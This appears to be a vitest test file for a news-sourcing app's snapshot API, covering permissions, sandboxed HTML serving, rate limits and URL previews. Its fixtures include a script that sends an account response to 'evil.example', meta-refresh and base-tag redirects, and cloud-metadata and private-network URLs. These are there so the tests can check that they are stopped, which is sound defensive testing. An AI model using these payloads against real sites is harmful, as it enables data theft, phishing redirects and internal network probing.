import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { stopJobSender } from "@/lib/jobs/job-sender";
import { ARCHIVED_PAGE_CSP, securityHeaders } from "@/lib/server/http/security-headers";
import { captureSnapshot } from "@/lib/server/snapshots/capture-snapshot";
import { refetchSource } from "@/lib/server/snapshots/refetch-source";
import { spendPreviewBudget } from "@/lib/server/sources/preview-budget";
import { PREVIEW_MAX_PER_WINDOW, REFETCH_MAX_PER_WINDOW } from "@/lib/domain/fetch-rate-limit";
import { POST as refetchRoute } from "@/app/api/w/[slug]/sources/[id]/snapshots/route";
import { POST as previewRoute } from "@/app/api/w/[slug]/sources/preview/route";
import { GET as snapshotRoute } from "@/app/api/w/[slug]/snapshots/[id]/route";
import { GET as htmlRoute } from "@/app/api/w/[slug]/snapshots/[id]/html/route";
import { call, ctx, errorOf, tokenFor } from "../claims/api";
import { actorOf, article, codeOf, testSite, urlSource, workspaceWithEveryRole, type TTestSite, type TWorld } from "./helpers";

const PARAGRAPHS = [
  "The ministry said the new bridge would open in March, two years later than first planned, at a cost of 40 million.",
  "Engineers found cracks in two of the piers during inspections last spring, which delayed the works for months.",
];
const HOSTILE = article("Bridge delayed", PARAGRAPHS).replace("<head>", "<head><script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script>");

let site: TTestSite;
let w: TWorld;
let other: TWorld;
let tokens: Record<"editor" | "reviewer" | "viewer" | "outsider", string>;

beforeAll(async () => {
  site = await testSite();
  w = await workspaceWithEveryRole();
  other = await workspaceWithEveryRole();
  tokens = { editor: await tokenFor(w.editor.id), reviewer: await tokenFor(w.reviewer.id), viewer: await tokenFor(w.viewer.id), outsider: await tokenFor(w.outsider.id) };
  site.page("/bridge", HOSTILE, "text/html; charset=utf-8");
  site.page("/bridge.txt", "Bridge delayed\n\nThe bridge opens in March.", "text/plain");
});
afterAll(async () => {
  await stopJobSender();
  await site.close();
});

async function captured(path: string) {
  const { source, snapshotId } = await urlSource(w, site.url(path));
  await captureSnapshot({ snapshotId, finalAttempt: true });
  return { source, snapshotId };
}

describe("POST /api/w/{slug}/sources/{id}/snapshots (re-fetch)", () => {
  it("editors and reviewers re-fetch (202, a new PENDING capture, audited); a capture already waiting is returned, not doubled", async () => {
    const { source, snapshotId } = await captured("/bridge");
    const res = await refetchRoute(call(tokens.reviewer, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST", json: {} }), ctx({ slug: w.slug, id: source.id }));
    expect(res.status).toBe(202);
    const { snapshot } = (await res.json()) as { snapshot: { id: string; status: string; requestedUrl: string; requestedBy: { id: string } } };
    expect(snapshot).toMatchObject({ status: "PENDING", requestedUrl: site.url("/bridge"), requestedBy: { id: w.reviewer.id } });
    expect(snapshot.id).not.toBe(snapshotId);
    // No body at all is fine too; the waiting capture comes back.
    const again = await refetchRoute(call(tokens.editor, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST" }), ctx({ slug: w.slug, id: source.id }));
    expect(again.status).toBe(202);
    expect(((await again.json()) as { snapshot: { id: string } }).snapshot.id).toBe(snapshot.id);
    expect(await db.sourceSnapshot.count({ where: { sourceId: source.id } })).toBe(2);
    expect(await db.auditEvent.count({ where: { workspaceId: w.ws.id, action: "source.refetched", targetId: source.id } })).toBe(1);
  });

  it("viewers cannot (403), outsiders and other workspaces' ids get 404, a source without a URL is a 400; nothing is written", async () => {
    const { source } = await captured("/bridge");
    const before = await db.sourceSnapshot.count({ where: { sourceId: source.id } });
    const viewer = await refetchRoute(call(tokens.viewer, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST", json: {} }), ctx({ slug: w.slug, id: source.id }));
    expect(await errorOf(viewer)).toMatchObject({ status: 403, code: "FORBIDDEN" });
    const outsider = await refetchRoute(call(tokens.outsider, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST", json: {} }), ctx({ slug: w.slug, id: source.id }));
    expect(outsider.status).toBe(404);
    expect(await codeOf(refetchSource({ actor: actorOf(other.editor), workspaceSlug: other.slug, sourceId: source.id }))).toBe("NOT_FOUND");
    expect(await codeOf(refetchSource({ actor: actorOf(w.editor), workspaceSlug: w.slug, sourceId: "not-a-uuid" }))).toBe("NOT_FOUND");
    const interview = await db.source.create({ data: { workspaceId: w.ws.id, title: "Phone call", description: "With the ministry", type: "INTERVIEW" } });
    expect(await codeOf(refetchSource({ actor: actorOf(w.editor), workspaceSlug: w.slug, sourceId: interview.id }))).toBe("BAD_REQUEST");
    const forged = await refetchRoute(call(tokens.editor, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST", json: { url: "http://169.254.169.254/" } }), ctx({ slug: w.slug, id: source.id }));
    expect(forged.status).toBe(400);
    expect(await db.sourceSnapshot.count({ where: { sourceId: source.id } })).toBe(before);
    expect(await db.sourceSnapshot.count({ where: { sourceId: interview.id } })).toBe(0);
  });
});

describe("GET /api/w/{slug}/snapshots/{id}", () => {
  it("members read a capture with its text; other workspaces get 404", async () => {
    const { snapshotId } = await captured("/bridge");
    const res = await snapshotRoute(call(tokens.viewer, `/api/w/${w.slug}/snapshots/${snapshotId}`), ctx({ slug: w.slug, id: snapshotId }));
    expect(res.status).toBe(200);
    const { snapshot } = (await res.json()) as { snapshot: Record<string, unknown> };
    expect(snapshot).toMatchObject({ id: snapshotId, status: "OK", hasHtml: true, finalUrl: site.url("/bridge"), contentType: "text/html" });
    expect(snapshot.text).toEqual(expect.stringContaining("two years later than first planned"));
    expect(snapshot).not.toHaveProperty("html");
    const outsider = await snapshotRoute(call(tokens.outsider, `/api/w/${w.slug}/snapshots/${snapshotId}`), ctx({ slug: w.slug, id: snapshotId }));
    expect(outsider.status).toBe(404);
    const otherToken = await tokenFor(other.owner.id);
    const cross = await snapshotRoute(call(otherToken, `/api/w/${other.slug}/snapshots/${snapshotId}`), ctx({ slug: other.slug, id: snapshotId }));
    expect(cross.status).toBe(404);
  });
});

describe("GET /api/w/{slug}/snapshots/{id}/html", () => {
  it("removes meta refreshes and <base> (an open redirect from our origin, re-pointed links), however they are spelled", async () => {
    const page = article("Bridge delayed", PARAGRAPHS).replace(
      "<head>",
      '<head><META HTTP-EQUIV=" Refresh " CONTENT="0; url=https://evil.example/login"><meta http-equiv="refresh" content="1;URL=//evil.example"><base href="https://evil.example/"><meta http-equiv="content-language" content="en">',
    );
    site.page("/redirecting", page);
    const { snapshotId } = await captured("/redirecting");
    const res = await htmlRoute(call(tokens.viewer, `/api/w/${w.slug}/snapshots/${snapshotId}/html`), ctx({ slug: w.slug, id: snapshotId }));
    const body = await res.text();
    expect(body).not.toMatch(/refresh/i);
    expect(body).not.toMatch(/<base/i);
    expect(body).not.toContain("evil.example");
    expect(body).toContain('http-equiv="content-language"');
    expect(body).toContain(PARAGRAPHS[1]!);
  });

  it("serves the archived source sandboxed: no scripts, an opaque origin, images only, never cached, never sniffed", async () => {
    const { snapshotId } = await captured("/bridge");
    const res = await htmlRoute(call(tokens.viewer, `/api/w/${w.slug}/snapshots/${snapshotId}/html`), ctx({ slug: w.slug, id: snapshotId }));
    expect(res.status).toBe(200);
    const csp = res.headers.get("content-security-policy")!;
    expect(csp).toBe(ARCHIVED_PAGE_CSP);
    expect(csp.split(";").map((d) => d.trim())).toEqual(expect.arrayContaining(["sandbox", "default-src 'none'", "img-src data:", "style-src 'unsafe-inline'"]));
    expect(csp).not.toMatch(/allow-same-origin|allow-scripts/);
    expect(Object.fromEntries(["content-type", "x-content-type-options", "cross-origin-resource-policy", "cache-control"].map((h) => [h, res.headers.get(h)]))).toEqual({
      "content-type": "text/html; charset=utf-8",
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
      "cache-control": "private, no-store",
    });
    // The page as kept (re-serialized; its script inert under the sandbox).
    const body = await res.text();
    expect(body).toContain("<title>Bridge delayed</title>");
    expect(body).toContain(PARAGRAPHS[0]!);
    // The proxy's headers for this path carry the same policy instead of the app's.
    const proxied = securityHeaders({ nonce: "n", pathname: `/api/w/${w.slug}/snapshots/${snapshotId}/html`, host: "localhost:3000", https: false, dev: false, oauthOrigins: [] });
    expect(proxied["Content-Security-Policy"]).toBe(ARCHIVED_PAGE_CSP);
    expect(securityHeaders({ nonce: "n", pathname: `/api/w/${w.slug}/snapshots/${snapshotId}`, host: "localhost:3000", https: false, dev: false, oauthOrigins: [] })["Content-Security-Policy"]).not.toBe(ARCHIVED_PAGE_CSP);
  });

  it("is a 404 for a capture without page source (plain text) and for outsiders", async () => {
    const { snapshotId } = await captured("/bridge.txt");
    const res = await htmlRoute(call(tokens.viewer, `/api/w/${w.slug}/snapshots/${snapshotId}/html`), ctx({ slug: w.slug, id: snapshotId }));
    expect(res.status).toBe(404);
    const html = await captured("/bridge");
    const outsider = await htmlRoute(call(tokens.outsider, `/api/w/${w.slug}/snapshots/${html.snapshotId}/html`), ctx({ slug: w.slug, id: html.snapshotId }));
    expect(outsider.status).toBe(404);
  });
});

describe("fetch budgets", () => {
  it("a person who re-fetched 30 sources in ten minutes gets a 429 with Retry-After and nothing queued; others are not held back", async () => {
    const { source } = await captured("/bridge.txt");
    // The last ten minutes as the audit log tells them: 30 re-fetches, the oldest 4 minutes ago.
    const now = Date.now();
    await db.auditEvent.createMany({
      data: Array.from({ length: REFETCH_MAX_PER_WINDOW }, (_, i) => ({
        workspaceId: w.ws.id,
        actorId: w.editor.id,
        action: "source.refetched",
        targetType: "source",
        targetId: source.id,
        createdAt: new Date(now - 4 * 60_000 + i * 1000),
      })),
    });
    const snapshots = await db.sourceSnapshot.count({ where: { sourceId: source.id } });
    const res = await refetchRoute(call(tokens.editor, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST" }), ctx({ slug: w.slug, id: source.id }));
    expect(await errorOf(res)).toMatchObject({ status: 429, message: expect.stringMatching(/re-fetched many sources .* Try again in [56] minutes\./) });
    const retryAfter = Number(res.headers.get("retry-after"));
    expect(retryAfter).toBeGreaterThan(5 * 60);
    expect(retryAfter).toBeLessThanOrEqual(6 * 60);
    expect(await db.sourceSnapshot.count({ where: { sourceId: source.id } })).toBe(snapshots);
    // The reviewer's budget is their own.
    const theirs = await refetchRoute(call(tokens.reviewer, `/api/w/${w.slug}/sources/${source.id}/snapshots`, { method: "POST" }), ctx({ slug: w.slug, id: source.id }));
    expect(theirs.status).toBe(202);
  });

  it("address previews: 60 in ten minutes per person, then a 429 with Retry-After", async () => {
    site.page("/budget", article("Budget page", PARAGRAPHS));
    const ask = (token: string) => previewRoute(call(token, `/api/w/${w.slug}/sources/preview`, { method: "POST", json: { url: site.url("/budget") } }), ctx({ slug: w.slug }));
    expect((await ask(tokens.reviewer)).status).toBe(200);
    for (let i = 1; i < PREVIEW_MAX_PER_WINDOW; i++) spendPreviewBudget(w.reviewer.id);
    const res = await ask(tokens.reviewer);
    expect(await errorOf(res)).toMatchObject({ status: 429, message: expect.stringMatching(/previewed many addresses .* Try again in 10 minutes\./) });
    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(9 * 60);
    expect((await ask(tokens.editor)).status).toBe(200);
  });
});

describe("POST /api/w/{slug}/sources/preview", () => {
  it("reads a page's title, publisher, author and date (final URL after redirects), storing nothing", async () => {
    site.page("/preview", article("Bridge delayed | Daily Post", PARAGRAPHS, '<meta property="og:site_name" content="Daily Post"><meta name="author" content="Lea Stone"><meta property="article:published_time" content="2026-10-01">'));
    site.route("/p", (_req, res) => void res.writeHead(302, { location: "/preview" }).end());
    const sources = await db.source.count({ where: { workspaceId: w.ws.id } });
    const res = await previewRoute(call(tokens.editor, `/api/w/${w.slug}/sources/preview`, { method: "POST", json: { url: site.url("/p") } }), ctx({ slug: w.slug }));
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ preview: { url: site.url("/preview"), title: "Bridge delayed", publisher: "Daily Post", author: "Lea Stone", publishedAt: "2026-10-01" } });
    expect(await db.source.count({ where: { workspaceId: w.ws.id } })).toBe(sources);
  });

  it("answers a clear 4xx for a private address, a missing page, a non-http URL; viewers may not use it", async () => {
    const ask = (token: string, url: string) => previewRoute(call(token, `/api/w/${w.slug}/sources/preview`, { method: "POST", json: { url } }), ctx({ slug: w.slug }));
    expect(await errorOf(await ask(tokens.editor, "http://10.0.0.5/admin"))).toMatchObject({ status: 400, message: expect.stringMatching(/private network/) });
    expect(await errorOf(await ask(tokens.editor, site.url("/nowhere")))).toMatchObject({ status: 400, message: expect.stringMatching(/HTTP 404/) });
    expect(await errorOf(await ask(tokens.editor, "javascript:alert(1)"))).toMatchObject({ status: 400 });
    expect(await errorOf(await ask(tokens.viewer, site.url("/preview")))).toMatchObject({ status: 403 });
  });
});
